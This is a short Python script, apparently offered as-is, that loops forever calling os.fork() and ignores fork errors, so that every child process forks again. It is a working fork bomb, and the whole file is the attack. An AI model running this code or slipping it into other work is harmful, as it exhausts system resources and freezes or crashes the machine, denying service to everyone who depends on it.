"""Forks without end; no child gives up."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
